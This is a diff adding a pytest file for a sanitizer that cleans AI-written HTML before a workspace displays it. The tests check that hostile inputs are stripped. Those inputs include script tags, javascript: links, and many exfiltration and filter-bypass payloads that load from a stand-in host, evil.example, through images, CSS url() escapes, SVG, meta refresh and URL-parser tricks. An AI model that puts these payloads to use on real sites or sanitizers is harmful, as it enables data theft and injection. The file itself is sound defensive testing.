@@ -1,0 +1,314 @@
+"""HTML that a model writes: shown as far as Workspace shows it."""
+
+import json
+
+import pytest
+
+from copilot_admin.agent.client_functions.add_generative_widget import AddGenerativeWidget
+from copilot_admin.agent.client_functions.registry import Situation
+from copilot_admin.agent.client_functions.samples import FULL_QUERY
+from copilot_admin.agent.tools.clean_html import LONGEST, cleaned
+from copilot_admin.agent.tools.inline_styles import MOST_LENGTH, harmless_style
+from copilot_admin.agent.tools.tool_arguments import ToolMistake
+from copilot_admin.agent.values.model_call import ToolCall
+from protocol.events import ArtifactType, MessageArtifact
+from tests.agent.engine_inputs import make_engine_input, make_spec, outputs_of
+from tests.agent.scripted import ScriptedProvider, call, text
+
+
+@pytest.mark.parametrize(
+    ("html", "clean"),
+    [
+        ("<b>x</b><script>alert(1)</script>", "<b>x</b>"),
+        ("<style>p{color:red}</style><p>x</p>", "<p>x</p>"),
+        ("<iframe src='https://a'></iframe><form><input></form>x", "x"),
+        ("<object data='a'></object><embed src='a'>x", "x"),
+        ('<p onclick="x()" style="color:red">x</p>', '<p style="color:red">x</p>'),
+        ('<p style="background-image:url(https://a);color:red">x</p>', '<p style="color:red">x</p>'),
+        ('<a href="javascript:x()">x</a>', '<a rel="noopener noreferrer">x</a>'),
+        ('<td colspan="2">x</td>', "x"),
+        (
+            '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
+            '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
+        ),
+        ("<section><h1>x</h1></section>", "<section><h1>x</h1></section>"),
+    ],
+)  # fmt: skip
+def test_nothing_stays_that_runs_asks_or_calls_home(html, clean):
+    assert cleaned(html) == clean
+
+
+PIXEL = "data:image/png;base64,iVBORw0KGgo="
+HOSTILE = "https://evil.example/?q=secret"
+ALLOWED = ("https://charts.example.com", "https://pictures.example:8443")
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        f'<img src="{HOSTILE}">',
+        f"<IMG SRC={HOSTILE}>",
+        '<img src="//evil.example/x.png">',
+        '<img src="\\\\evil.example/x.png">',
+        '<img src="/x.png">',
+        '<img src=" \thttps://evil.example/x.png">',
+        '<img src="ht\ntps://evil.example/x.png">',
+        '<img src="data:text/html,x">',
+        '<img src="https://charts.example.com.evil.example/x">',
+        '<img src="https://charts.example.com@evil.example/x">',
+        '<img src="https://charts.example.com\\@evil.example/x">',
+        '<img src="https://evil.example\\@charts.example.com/x">',
+        '<img src="https://charts.example.com:444/x">',
+        '<img src="https://charts.example.com">',
+        '<img src="http://charts.example.com/x">',
+        '<img src="https://sub.charts.example.com/x">',
+        '<img src="https:charts.example.com/x">',
+    ],
+)
+def test_an_image_from_elsewhere_is_not_loaded(html):
+    assert cleaned(html, sources=ALLOWED) == "<img>"
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        f'<img srcset="{HOSTILE} 2x" loading="lazy" lowsrc="{HOSTILE}" style="content: url({HOSTILE})">',
+        f'<picture><source srcset="{HOSTILE}"><img></picture>',
+        f'<video src="{HOSTILE}" poster="{HOSTILE}" autoplay></video><audio src="{HOSTILE}"></audio>',
+        f'<video><track src="{HOSTILE}"></video>',
+        f'<link rel="stylesheet" href="{HOSTILE}"><link rel="prefetch" href="{HOSTILE}">',
+        f'<link rel="dns-prefetch" href="//evil.example"><base href="{HOSTILE}">',
+        f'<meta http-equiv="refresh" content="0; url={HOSTILE}">',
+        f'<object data="{HOSTILE}"></object><embed src="{HOSTILE}"><applet code="{HOSTILE}"></applet>',
+        f'<iframe src="{HOSTILE}"></iframe><frameset><frame src="{HOSTILE}"></frameset>',
+        f'<iframe srcdoc="&lt;img src={HOSTILE}&gt;"></iframe>',
+        f'<svg><image href="{HOSTILE}"/><use xlink:href="{HOSTILE}"/><feImage href="{HOSTILE}"/></svg>',
+        f'<svg><style>@import "{HOSTILE}"</style></svg><style>@import url({HOSTILE})</style>',
+        f'<math><mtext><img src="{HOSTILE}"></mtext></math>',
+        f'<form action="{HOSTILE}"><input type="image" src="{HOSTILE}"><button formaction="{HOSTILE}">',
+        f'<body background="{HOSTILE}"><table background="{HOSTILE}"><tr><td background="{HOSTILE}">',
+        f'<p style="background: url({HOSTILE})">',
+        f'<p style="background: u\\72l({HOSTILE})">',
+        f'<p style="background-image: image-set(url({HOSTILE}) 1x)">',
+        f'<p style="list-style: url({HOSTILE})"><p style="cursor: url({HOSTILE}), auto">',
+        f'<p style="mask: url({HOSTILE})"><p style="border-image: url({HOSTILE}) 1">',
+        f'<a ping="{HOSTILE}" href="#x">x</a><script src="{HOSTILE}"></script>',
+        f'<template><img src="{HOSTILE}"></template>',
+        f'<!--[if true]><img src="{HOSTILE}"><![endif]--><xml src="{HOSTILE}"></xml>',
+        f'<portal src="{HOSTILE}"></portal><bgsound src="{HOSTILE}"><isindex action="{HOSTILE}">',
+    ],
+)
+def test_nothing_loads_by_itself(html):
+    assert "evil.example" not in cleaned(html, sources=ALLOWED)
+
+
+def test_what_browsers_without_scripts_would_load_is_text():
+    assert cleaned(f'<noscript><img src="{HOSTILE}"></noscript>') == (
+        '&lt;img src="https://evil.example/?q=secret"&gt;'
+    )
+
+
+@pytest.mark.parametrize(
+    "address", [PIXEL, "https://charts.example.com/x?y=1", "https://pictures.example:8443/a/../b"]
+)
+def test_an_image_in_itself_or_from_where_the_builder_allows_is_shown(address):
+    assert cleaned(f'<img src="{address}">', sources=ALLOWED) == f'<img src="{address}">'
+
+
+def test_a_link_that_people_choose_to_follow_stays():
+    link = '<a href="https://example.org/x" rel="noopener noreferrer">x</a>'
+    assert cleaned(link) == link
+
+
+@pytest.mark.parametrize("address", ["data:text/html,x", " DA\tTA:text/html,x"])
+def test_a_link_that_holds_a_page_is_taken_out(address):
+    assert cleaned(f'<a href="{address}">x</a>') == '<a rel="noopener noreferrer">x</a>'
+
+
+CARD = (
+    '<div style="background: linear-gradient(135deg, #667eea 0%, rgba(9, 9, 9, 0.2) 100%); '
+    "font-family: system-ui, 'Segoe UI', sans-serif; flex-shrink: 0; "
+    "grid-template-columns: repeat(2, minmax(0, 1fr));\"><b>$5</b> today's</div>"
+)
+
+
+def test_a_card_comes_out_exactly_as_it_was_written():
+    assert cleaned(CARD) == CARD
+
+
+@pytest.mark.parametrize(
+    "declaration",
+    [
+        "background: url(https://example.org/x)",
+        "background: URL (x)",
+        "background-image: image-set('x' 1x)",
+        "background: \\75rl(x)",
+        "background: u/**/rl(x)",
+        "position: fixed",
+        "color: attr(title)",
+        "color: 'red",
+        "color: rgb(1",
+        "color: (1)",
+        "color",
+        "color: rgb(1'",
+        "behavior: x",
+        "--x: 1",
+        "color: @x",
+        "color: [red]",
+        "color: {red}",
+        "color: 'a;b'",
+        "color: 'a\\'",
+        "color: red /*",
+        "color: url(x",
+        "colo\\72: red",
+        "color:",
+        "@import 'x'",
+        "p { color: red }",
+        f"color: {'calc(' * 9}1{')' * 9}",
+    ],
+)
+def test_a_style_that_loads_or_covers_something_is_taken_out_alone(declaration):
+    assert cleaned(f"<p style='{declaration.replace(chr(39), '&#39;')}'>x</p>") == "<p>x</p>"
+    kept = cleaned(f'<p style="color: red; {declaration}">x</p>')
+    assert kept == '<p style="color: red">x</p>'
+
+
+def test_what_stays_beside_something_taken_out_keeps_its_meaning():
+    style = "Color: red !important ; position: fixed; font-family: 'A B' ,serif;"
+    assert harmless_style(style) == 'Color: red !important; font-family: "A B" ,serif'
+
+
+@pytest.mark.parametrize("opening", ["(", "[", "{", "calc(", "a{", "/*", "\\", "url("])
+def test_no_depth_of_nesting_breaks_it(opening):
+    assert harmless_style(f"color: red; width: {opening * 1_500}") == "color: red"
+
+
+def test_style_with_a_number_that_python_does_not_read_is_left_out():
+    assert harmless_style(f"color: red; width: {'9' * 5000}px") is None
+
+
+def test_style_that_is_longer_than_any_design_is_left_out():
+    style = "color: red; ".ljust(MOST_LENGTH)
+    assert harmless_style(style) == style
+    assert harmless_style(f"{style} ") is None
+
+
+def shown(*script, **spec):
+    with ScriptedProvider(script) as provider:
+        outputs = outputs_of(make_engine_input(provider, spec=make_spec(tools=("html",), **spec)))
+    return [one for one in outputs if isinstance(one, MessageArtifact)], provider
+
+
+def test_html_is_shown_as_an_artifact_with_a_name_of_its_own():
+    [artifact], provider = shown(
+        call("html", name="Card", description="Figures.", html="<b>1</b><script>x</script>"),
+        text("See above."),
+    )
+    assert (artifact.type, artifact.content) == (ArtifactType.HTML, "<b>1</b>")
+    assert artifact.artifact_name == "Card"
+    assert provider.calls[1].messages[-1].text == "The user now sees 'Card'."
+
+
+def test_html_of_which_nothing_is_left_is_told_to_the_model():
+    artifacts, provider = shown(
+        call("html", name="Card", description="", html="<script>x</script>"), text("Sorry.")
+    )
+    assert artifacts == []
+    assert "scripts, styles, frames, forms and images" in provider.calls[1].messages[-1].text
+
+
+def test_a_picture_alone_is_something_to_show():
+    [artifact], _ = shown(
+        call("html", name="P", description="", html=f'<img src="{PIXEL}" alt="">'),
+        text("See above."),
+    )
+    assert artifact.content == f'<img src="{PIXEL}" alt="">'
+
+
+def test_a_picture_from_elsewhere_alone_is_nothing_to_show():
+    artifacts, provider = shown(
+        call("html", name="P", description="", html='<img src="https://a.example/b.png" alt="">'),
+        text("Sorry."),
+    )
+    assert artifacts == []
+    assert "images from elsewhere" in provider.calls[1].messages[-1].text
+
+
+def test_a_picture_from_where_the_builder_allows_is_shown():
+    html = '<img src="https://a.example/b.png">'
+    [artifact], _ = shown(
+        call("html", name="P", description="", html=html),
+        text("See above."),
+        html_sources=("https://a.example",),
+    )
+    assert artifact.content == html
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<div>" * 5001,
+        "<p>" + "".join(f"<b lang='{number}'>" for number in range(500)) + "<p>x" * 500,
+        "<p>" + "<b lang='1'id='2'>" * 500 + "<p>x" * 500,
+    ],
+)
+def test_html_that_is_costly_to_clean_is_told_to_the_model(html):
+    artifacts, provider = shown(
+        call("html", name="Card", description="", html=html), text("Sorry.")
+    )
+    assert artifacts == []
+    assert "Use fewer elements" in provider.calls[1].messages[-1].text
+
+
+def test_a_long_table_with_styled_cells_is_shown():
+    row = '<tr><td><b style="color:red">1</b></td><td>2</td></tr>'
+    table = f"<table><tbody>{row * 2000}</tbody></table>"
+    artifacts, _ = shown(call("html", name="T", description="", html=table), text("See above."))
+    assert [one.content for one in artifacts] == [boxed(table)]
+
+
+def boxed(html):
+    return f'<div style="height:100%;overflow:auto">{html}</div>'
+
+
+@pytest.mark.parametrize(
+    "styled",
+    [
+        '<p style="margin-top: -400px">x</p>',
+        '<p style="box-shadow: 0 0 0 2000px red">x</p>',
+        '<p style="color: red">x</p></div></section>',
+        "</div></div><b style='line-height: 0'>x",
+    ],
+)
+def test_what_has_styles_is_shown_in_a_box_of_its_own(styled):
+    [artifact], _ = shown(call("html", name="S", description="", html=styled), text("See above."))
+    assert artifact.content == boxed(cleaned(styled))
+    assert "</div>" not in cleaned(styled)
+
+
+def test_classes_of_the_page_around_it_mean_nothing_here():
+    assert cleaned('<p class="fixed inset-0 z-50" title="x">x</p>') == '<p title="x">x</p>'
+
+
+def widget(html, **spec):
+    """What a new widget of HTML holds, or what the model is told instead."""
+    situation = Situation(spec=make_spec(**spec), query=FULL_QUERY)
+    [offer] = AddGenerativeWidget().offers(situation)
+    arguments = {"widget_type": "html", "name": "H", "data": html}
+    try:
+        return offer.arguments(
+            ToolCall(id="c", name="add_generative_widget", arguments=json.dumps(arguments))
+        )["data"]
+    except ToolMistake as mistake:
+        return mistake.public
+
+
+def test_the_html_of_a_new_widget_is_cleaned_as_that_of_an_answer():
+    hostile = f'<p onclick="x()">5</p><script>x</script><img src="{HOSTILE}">'
+    assert widget(hostile) == "<p>5</p><img>"
+    image = '<img src="https://a.example/b.png">'
+    assert widget(image, html_sources=("https://a.example",)) == image
+    assert widget('<p style="color: red">5</p>') == boxed('<p style="color: red">5</p>')
+    assert "images from elsewhere" in widget(image)
+    assert "Use fewer elements" in widget("<div>" * 5001)
+    assert "200000 characters at most" in widget("x" * (LONGEST + 1))
